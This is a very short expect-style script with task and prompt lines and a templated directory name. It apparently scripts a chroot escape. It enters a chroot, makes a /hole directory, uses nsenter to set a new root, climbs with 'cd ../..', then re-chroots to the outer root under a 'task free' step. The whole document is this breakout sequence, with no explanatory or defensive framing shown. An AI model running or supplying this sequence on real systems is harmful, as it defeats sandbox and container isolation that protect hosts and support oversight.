#@ task outside
chroot /srv/{{room}} /bin/sh
#@ expect / #
mkdir /hole
#@ expect / #
nsenter -r/hole -w/ bin/sh
#@ expect  #
cd ../..
#@ expect  #
#@ task free
chroot . /bin/bash
